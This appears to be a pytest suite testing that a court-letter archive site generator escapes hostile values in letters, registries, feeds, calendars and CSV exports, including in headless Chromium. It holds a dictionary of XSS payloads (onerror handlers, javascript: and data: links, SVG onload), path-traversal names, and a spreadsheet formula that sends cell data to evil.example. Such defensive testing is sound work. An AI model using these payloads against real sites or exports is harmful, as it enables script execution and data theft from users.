"""Issue 9, class 1: script through letter details and registries.

Every value of the front matter and of the registries (title, summary, type,
case caption and number, docket entries, person name, role, firm, aliases,
reference text, cc groups, relief, enclosures...) carries a payload. Each must
reach every page it lands on as text: in <title>, the meta description,
headings, the header card and the tables, nothing runs and nothing is loaded
from another host, in the built HTML and in real headless Chromium.
"""

from __future__ import annotations

import hashlib
import re
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml

from docket_archive import synthetic
from docket_archive.site.pages.cases import DOCKET_INLINE
from hostile import (
    JS,
    MARK_END,
    MARK_START,
    SAFE_SCHEMES,
    HostileLetter,
    archive_with_a_letter,
    assert_none,
    body_violations,
    front,
    page_violations,
    run_docket,
    scheme,
    search_results,
    visit,
    watched_context,
    write_yaml,
)
from hostile_sites import BuildFailed, HostileSite, base_registries, build_hostile_site

# name -> a value as an attacker writes it into a letter or a registry
PAYLOADS = {
    "title-break": f"</title><script>{JS}</script>",
    "attr-break": f'"><img src=x onerror="{JS}">',
    "single-quote-break": f"' autofocus onfocus='{JS}' x='",
    "attr-list": f'Status {{: autofocus onfocus="{JS}" tabindex=0 }}',
    "attr-list-bare": "Status {: #__config .md-header onclick=alert(1) }",
    "md-js-link": "[Open the order](javascript:alert(1))",
    "entity-js-link": "[Open the order](java&#x09;script:alert(1)) <a href='jav&#x61;script:alert(1)'>order</a>",
    "broken-js-link": '<a href="java\nscript:alert(1)">Open the order</a>',
    "data-link": "[Open the order](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "svg": f'<svg onload="{JS}"><math><a xlink:href="javascript:alert(1)">x</a></math></svg>',
    "offsite-image": f"![seal](https://{'evil.example'}/seal.png) <img src=//evil.example/pixel.gif>",
    "unclosed-comment": "Status <!-- swallows the rest of the page",
    "markdown-structure": "Status\n\n# Injected heading\n\n| a | b |\n|---|---|\n\n---\ntitle: injected",
    "template": "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %>",
    "spreadsheet-formula": '=HYPERLINK("https://evil.example/?leak="&A1,"Open") @SUM(1+1)*cmd',
}
SLUGS = {name: re.sub(r"[^a-z0-9]+", "-", name) for name in PAYLOADS}
PAYLOAD_PARAMS = list(PAYLOADS)
HOSTILE_DAY, FOLLOW_UP_DAY = "2020-03-02", "2020-03-16"


def person_key(name: str) -> str:
    return f"mallory-{SLUGS[name]}"


def case_key(name: str) -> str:
    return f"hostile-{SLUGS[name]}"


def registries(root: Path, payloads: dict[str, str]) -> None:
    """Synthetic registries plus, per payload, a person and a case made of it."""
    base_registries(root, ["alpha"])
    people = (root / "people.yml").read_text("utf-8")
    hostile_people = {
        person_key(name): {
            "name": f"Mallory {payload}",
            "role": f"attorney {payload}",
            "firm": f"{payload} LLP",
            "aliases": [f"M. {payload}"],
            "sort_as": f"Mallory, {payload}",
        }
        for name, payload in payloads.items()
    }

    (root / "people.yml").write_text(people + yaml.safe_dump(hostile_people, allow_unicode=True), "utf-8")
    for name, payload in payloads.items():
        (root / case_key(name)).mkdir()
        write_yaml(
            root / case_key(name) / "case.yml",
            {
                "number": f"99-10001 {payload}",
                "caption": f"In re {payload} (Synthetic)",
                "court": "nysb",
                "judge": person_key(name),
                "chapter": 11,
                "summary": f"{synthetic.MARK} {payload}",
                "docket_entries": [{"date": "2020-01-15", "title": f"Order {payload}", "note": payload}],
                "other_numbers": [f"1:99-bk-10001 {payload}"],
            },
        )


def hostile_letter(name: str, payload: str) -> HostileLetter:
    """Every value of the letter's front matter carries the payload."""
    fields = front(
        f"Letter {payload}",
        case_key(name),
        HOSTILE_DAY,
        type=f"status letter {payload}",
        sequence=1,
        authors=[
            {"person": person_key(name), "firm": f"{payload} LLP", "on_behalf_of": [payload], "role": payload},
            {"person": "casey-fixture-2"},
        ],
        signed_for={"person": "casey-fixture-2", "role": payload},
        addressee=f"M. {payload}",  # by alias
        cc=[
            {"person": person_key(name), "via": payload, "role": payload},
            {"name": f"All Counsel {payload}", "via": "e-mail", "enclosure": True},
        ],
        delivery=payload,
        summary=f"{synthetic.MARK} {payload}",
        relief_requested=[payload],
        enclosures=[payload],
        endorsement={"text": payload, "kind": "other", "date": HOSTILE_DAY, "by": person_key(name)},
        hearings=[{"date": "2020-04-01", "time": "11:00", "what": payload}],
        deadlines=[{"date": "2020-04-15", "what": payload}],
        references={
            "letters": [{"text": payload, "case": "alpha", "date": "2020-03-01"}],
            "docket": [{"text": payload, "date": "2020-01-15", "title": payload}],
        },
        next_report_due=FOLLOW_UP_DAY,
    )
    body = f"{MARK_START}\n\nThe parties report on mediation.\n\n{MARK_END}\n"
    return HostileLetter(SLUGS[name], case_key(name), HOSTILE_DAY, fields, body)


def citing(name: str, payload: str, number: int) -> HostileLetter:
    """Letters citing the case's docket entry (as the hostile letter does), so that it is cited by
    more than DOCKET_INLINE letters and has a page of its own, listing their titles."""
    day = f"2020-02-{number + 2:02d}"
    fields = front(
        f"Citing letter {number} {payload}",
        case_key(name),
        day,
        references={"docket": [{"text": payload, "date": "2020-01-15", "title": payload}]},
    )
    body = f"{MARK_START}\n\nThe parties refer to the Court's order.\n\n{MARK_END}\n"
    return HostileLetter(f"citing-{number}", case_key(name), day, fields, body)


def follow_up(name: str) -> HostileLetter:
    """A later letter that mentions the hostile one: its title reaches this
    page as a link's title, and as the previous letter."""
    fields = front("Follow-up letter", case_key(name), FOLLOW_UP_DAY, sequence=2)
    body = f"{MARK_START}\n\nSince the status letter dated March 2, 2020, mediation continued.\n\n{MARK_END}\n"
    return HostileLetter("follow-up", case_key(name), FOLLOW_UP_DAY, fields, body)


CONTROL = HostileLetter(
    "control-letter",
    "alpha",
    "2020-03-01",
    front("Control letter", "alpha", "2020-03-01"),
    f"{MARK_START}\n\nA benign letter.\n\n{MARK_END}\n",
)


@dataclass
class ValuesSite:
    built: HostileSite
    failure: str  # why MkDocs could not build the site with every payload ("" if it could)
    payloads: set[str]  # the payloads the built site carries

    def html(self, path: str) -> str:
        return self.built.html(path)


def build_values(tmp: Path, payloads: dict[str, str]) -> HostileSite:
    letters = [hostile_letter(name, payload) for name, payload in payloads.items()]
    letters += [follow_up(name) for name in payloads]
    letters += [citing(name, payload, number) for name, payload in payloads.items() for number in range(DOCKET_INLINE)]
    built = build_hostile_site(tmp, letters, CONTROL, lambda root: registries(root, payloads))
    # follow-ups share a file name across cases; key them by case
    built.letters = {f"{letter.case}/{letter.name}": letter for letter in letters}
    return built


@pytest.fixture(scope="module")
def values_site(tmp_path_factory) -> ValuesSite:
    try:
        return ValuesSite(build_values(tmp_path_factory.mktemp("values"), PAYLOADS), "", set(PAYLOADS))
    except BuildFailed as failure:
        # Record it, and build without the values that have line breaks, so
        # the other payloads are still checked.
        rest = {name: payload for name, payload in PAYLOADS.items() if "\n" not in payload}
        built = build_values(tmp_path_factory.mktemp("values-without-line-breaks"), rest)
        return ValuesSite(built, str(failure), set(rest))


def built_with(site: ValuesSite, name: str) -> None:
    if name not in site.payloads:
        pytest.fail(f"the site does not build with this value:\n{site.failure}", pytrace=False)


def test_the_site_builds_with_every_hostile_value(values_site: ValuesSite) -> None:
    assert values_site.failure == "", "a value made MkDocs fail (shown at the end)"


def pages_of(name: str) -> list[str]:
    return [
        f"letters/{case_key(name)}/{HOSTILE_DAY}-{SLUGS[name]}",
        f"letters/{case_key(name)}/{FOLLOW_UP_DAY}-follow-up",
        f"cases/{case_key(name)}",
        f"people/{person_key(name)}",
        f"cases/{case_key(name)}/docket/2020-01-15",  # the case.yml's entry, cited by more than DOCKET_INLINE
    ]


INDEX_PAGES = ["", "archive", "archive/2020", "cases", "people", "people/firms", "tags", "tags/mediation", "add-letter"]


class _Text(HTMLParser):
    """The text of the first element of a kind, and the meta description."""

    def __init__(self, tag: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tag, self.depth, self.done = tag, 0, False
        self.parts: list[str] = []
        self.description: str | None = None

    def handle_starttag(self, tag, attrs):
        if tag == "meta" and dict(attrs).get("name") == "description":
            self.description = dict(attrs).get("content")
        if tag == self.tag and not self.done:
            self.depth += 1
        elif self.depth:
            self.depth += 1 if tag not in ("br", "img", "input", "meta", "link", "hr") else 0

    def handle_endtag(self, tag):
        if self.depth:
            self.depth -= 1
            if self.depth == 0:
                self.done = True

    def handle_data(self, data):
        if self.depth and not self.done:
            self.parts.append(data)


def text_of(html: str, tag: str) -> tuple[str, str | None]:
    parser = _Text(tag)
    parser.feed(html)
    return " ".join("".join(parser.parts).split()), parser.description


def collapse(text: str) -> str:
    return " ".join(text.split())


def test_values_are_published_not_refused(values_site: ValuesSite) -> None:
    # A title or a name that contains markup is text to show, not a reason to
    # lose the letter: the defence is escaping (a tag would be refused by its schema).
    assert_none(values_site.built.refusals.by_file, "letters refused for values that only need escaping")


@pytest.mark.parametrize("name", PAYLOAD_PARAMS)
def test_no_active_content_in_the_built_pages(values_site: ValuesSite, name: str) -> None:
    built_with(values_site, name)
    found = {
        path: page_violations(values_site.html(path), values_site.built.own_scripts)
        for path in pages_of(name)
        if (values_site.built.site / path / "index.html").exists()
    }
    assert len(found) == len(pages_of(name)), "a page of the hostile letter, case or person is missing"
    assert_none(found, "active content a value put on the page")


def test_no_active_content_in_the_index_pages(values_site: ValuesSite) -> None:
    found = {path: page_violations(values_site.html(path), values_site.built.own_scripts) for path in INDEX_PAGES}
    assert_none(found, "active content a value put on the page")


@pytest.mark.parametrize("name", PAYLOAD_PARAMS)
def test_values_are_shown_as_text(values_site: ValuesSite, name: str) -> None:
    built_with(values_site, name)
    payload = PAYLOADS[name]
    letter_html = values_site.html(pages_of(name)[0])
    heading, description = text_of(letter_html, "h1")
    title, _ = text_of(letter_html, "title")
    assert heading == collapse(f"Letter {payload}")
    assert collapse(f"Letter {payload}") in title
    assert description is not None and collapse(payload) in description
    assert MARK_START in letter_html and MARK_END in letter_html  # nothing swallowed the letter
    case_heading, _ = text_of(values_site.html(pages_of(name)[2]), "h1")
    assert case_heading == collapse(f"In re {payload} (Synthetic)")
    person_heading, _ = text_of(values_site.html(pages_of(name)[3]), "h1")
    assert person_heading == collapse(f"Mallory {payload}")
    entry_html = values_site.html(pages_of(name)[4])
    entry_heading, _ = text_of(entry_html, "h1")
    assert entry_heading == collapse(f"In re {payload} (Synthetic): Entry of January 15, 2020")
    card, _ = text_of(entry_html, "dl")
    assert collapse(f"Order {payload}") in card and collapse(f"Note {payload}") in card
    assert collapse(f"Citing letter 1 {payload}") in text_of(entry_html, "table")[0]


@pytest.fixture(scope="module")
def site_url(values_site: ValuesSite):
    from conftest import serve

    base, stop = serve(values_site.built.site)
    yield base
    stop()


@pytest.fixture(scope="module")
def watched(browser, site_url: str):
    context, watch = watched_context(browser, site_url)
    tab = context.new_page()
    yield tab, watch
    context.close()


@pytest.mark.browser
@pytest.mark.parametrize("name", PAYLOAD_PARAMS)
def test_pages_of_hostile_values_run_nothing_in_chromium(
    values_site: ValuesSite, watched, site_url: str, name: str
) -> None:
    built_with(values_site, name)
    tab, watch = watched
    found = {}
    # The letter, its case and its person; the follow-up letter (the hostile
    # title as a link's title) is checked in its HTML only, to keep the suite fast.
    for index, path in enumerate(pages_of(name)[:1] + pages_of(name)[2:]):
        # the letter page settles (waits for the network to be idle); the others are checked at load
        found[path] = visit_page(tab, watch, f"{site_url}/{path}/?highlight=mediation", settle=index == 0)
    assert_none(found, "what the page did in Chromium")


@pytest.mark.browser
def test_index_pages_run_nothing_in_chromium(watched, site_url: str) -> None:
    tab, watch = watched
    found = {path: visit_page(tab, watch, f"{site_url}/{path}/", settle=False) for path in INDEX_PAGES}
    assert_none(found, "what the page did in Chromium")


def visit_page(tab, watch, url: str, settle: bool) -> list[str]:
    # the home page's path is "": no doubled slash
    return visit(tab, watch, url.replace(f"{watch.host}//", f"{watch.host}/"), links=".md-content a", settle=settle)


@pytest.mark.parametrize("tag", [f'"><img src=x onerror="{JS}">', "index {: onclick=alert(1) }", "../../../index"])
def test_a_tag_that_is_markup_or_a_path_is_refused_or_harmless(tmp_path: Path, tag: str) -> None:
    # Tags name pages and filters: refusing what is not a plain topic is a
    # defence; publishing it is one only if it stays text and stays in its folder.
    root = tmp_path / "letters"
    archive_with_a_letter(root, tags=[tag])
    code, output = run_docket("check", str(root))
    if code == 1:
        assert "2020-02-03-first-status-letter.md:" in output, output
        return
    out = tmp_path / "site" / "docs"
    before = set(tmp_path.rglob("*"))
    code, output = run_docket("build", "--out", str(out), "--letters", str(root), "--docs", str(tmp_path / "none"))
    assert code == 0, output
    outside = {p for p in tmp_path.rglob("*") if out not in p.parents and p != out} - before - {out.parent}
    assert outside == set(), "docket build wrote outside its folder"
    pages = "".join(p.read_text("utf-8") for p in out.rglob("*.md"))
    assert "<img src=x" not in pages and not re.search(r"<[^>]*\sonclick=", pages)


def person_key_case(root: Path, key: str) -> None:
    archive_with_a_letter(root, cc=[{"person": key, "via": "e-mail"}])
    people = root / "people.yml"
    people.write_text(people.read_text("utf-8") + yaml.safe_dump({key: {"name": "Key Test"}}), "utf-8")


def original_name_case(root: Path, name: str) -> None:
    content = b"SYNTHETIC TEST LETTER original\n"
    archive_with_a_letter(root, original={"path": f"originals/{name}", "sha256": hashlib.sha256(content).hexdigest()})
    (root / "alpha" / "originals").mkdir()
    (root / "alpha" / "originals" / name).write_bytes(content)


NAMES = {
    "person key that is markup": (person_key_case, f'x"><img src=x onerror="{JS}">'),
    "person key that is a path": (person_key_case, "../../../pwned"),
    "person key with attr_list": (person_key_case, "x {: onclick=alert(1) }"),
    "original named as markup": (original_name_case, 'x"><img src=x onerror=alert(1)>.txt'),
    "original named with a scheme": (original_name_case, "javascript:alert(1).txt"),
}


@pytest.mark.parametrize("case", NAMES)
def test_names_that_become_paths_and_links_are_refused_or_harmless(tmp_path: Path, case: str) -> None:
    make, value = NAMES[case]
    root = tmp_path / "letters"
    make(root, value)
    code, output = run_docket("check", str(root))
    if code == 1:
        assert "people.yml" in output or "2020-02-03-first-status-letter.md" in output, output
        return
    out = tmp_path / "site" / "docs"
    before = set(tmp_path.rglob("*"))
    code, output = run_docket("build", "--out", str(out), "--letters", str(root), "--docs", str(tmp_path / "none"))
    assert code == 0, output
    outside = {p for p in tmp_path.rglob("*") if out not in p.parents and p != out} - before - {out.parent}
    assert outside == set(), "docket build wrote outside its folder"
    from test_hostile_properties import file_as_html, shape

    found = {p.relative_to(out).as_posix(): shape(file_as_html(p.read_text("utf-8"))[1])[1] for p in out.rglob("*.md")}
    assert_none(found, f"{case}: active content on the pages")


def test_feeds_calendars_and_exports_keep_values_as_data(values_site: ValuesSite) -> None:
    """The same values in the other formats the site publishes: Atom feeds stay
    well-formed and carry no markup a reader would render, calendars parse,
    JSON parses, and no spreadsheet cell starts a formula (= + - @, tab, CR)."""
    import csv
    import json
    import xml.etree.ElementTree as ET

    site = values_site.built.site
    found: dict[str, list[str]] = {}
    for path in sorted(site.rglob("*")):
        if not path.is_file() or path.suffix not in (".xml", ".ics", ".csv", ".json"):
            continue
        where = path.relative_to(site).as_posix()
        problems = found.setdefault(where, [])
        text = path.read_text("utf-8-sig")
        if path.suffix == ".xml" and where != "sitemap.xml":
            for element in ET.fromstring(text).iter():  # noqa: S314 - our own build; raises if not well-formed
                if element.get("type") in ("html", "xhtml") and element.text:
                    problems += [
                        f"{element.tag}: {v}"
                        for v in body_violations(f'<div class="docket-letter">{element.text}</div>')
                    ]
        elif path.suffix == ".ics":
            from icalendar import Calendar

            for component in Calendar.from_ical(text).walk():
                for name, value in component.property_items(recursive=False):
                    if name in ("URL", "ATTACH") and scheme(str(value)) not in SAFE_SCHEMES | {""}:
                        problems.append(f"{name}:{value}")
        elif path.suffix == ".json":
            json.loads(text)
        elif path.suffix == ".csv":
            for row in csv.reader(text.splitlines()):
                problems += [
                    f"cell starts a formula: {cell[:60]!r}"
                    for cell in row
                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
                ]
    assert_none(found, "values that stopped being data")
    assert any(where.endswith(".csv") for where in found), "no export was published"


@pytest.mark.browser
@pytest.mark.parametrize("query", ["judge:Mallory", "onerror", "Synthetic"])
def test_search_results_show_values_as_text(watched, site_url: str, query: str) -> None:
    # Result titles, dates, captions and filters come from the letters' values.
    tab, watch = watched
    count, found = search_results(tab, watch, site_url, query)
    assert count > 0, f"no result for {query!r}: the test would prove nothing"
    assert_none({query: found}, "what the search results did in Chromium")
